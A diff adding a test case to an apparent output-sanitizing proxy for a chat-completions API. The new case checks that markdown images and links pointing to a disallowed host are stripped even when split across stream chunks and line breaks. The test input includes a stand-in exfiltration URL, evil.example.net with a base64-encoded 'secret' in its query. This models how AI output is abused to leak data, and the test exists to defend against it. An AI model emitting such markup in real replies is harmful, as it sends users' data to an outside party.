@@ -157,6 +157,12 @@ test('a link to a host not allowed loses its URL and keeps its text, streamed or
     () => ({ status: 200, headers: [['content-type', 'text/event-stream']], body: sse(parts) }),
   );
   assert.equal(deltas(streamed.downstream.body.toString()), 'See the docs or call [PHONE] and the guide.');
+  // An image whose description runs over a line ending, and a link whose destination starts on the next line.
+  const wrapped = await client.exchange(
+    { method: 'POST', path: '/v1/chat/completions', headers: [JSON_CT], body: chat([{ role: 'user', content: 'hi' }], { stream: true }) },
+    () => ({ status: 200, headers: [['content-type', 'text/event-stream']], body: sse(['Chart: ![sales\nby', ' month](https://evil.example.net/c.png?d=c2Vj', 'cmV0) and [the\nreport](\n  https://evil.example.net/r) end.']) }),
+  );
+  assert.equal(deltas(wrapped.downstream.body.toString()), 'Chart:  and the\nreport end.');
   const whole = await client.exchange(
     { method: 'POST', path: '/v1/chat/completions', headers: [JSON_CT], body: chat([{ role: 'user', content: 'hi' }]) },
     () => ({ status: 200, headers: [JSON_CT], body: JSON.stringify({ id: 'c', object: 'chat.completion', choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: parts.join('') } }] }) }),
